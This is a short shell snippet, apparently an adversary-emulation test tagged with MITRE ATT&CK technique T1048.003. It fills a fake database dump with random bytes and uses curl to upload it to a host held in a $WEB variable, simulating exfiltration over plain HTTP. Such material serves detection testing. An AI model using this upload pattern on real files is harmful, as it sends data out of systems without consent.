# technique: T1048.003
# title: a file leaves
head -c 20000 /dev/urandom > /tmp/dump.sql
curl -s -T /tmp/dump.sql "http://$WEB/upload/dump.sql"
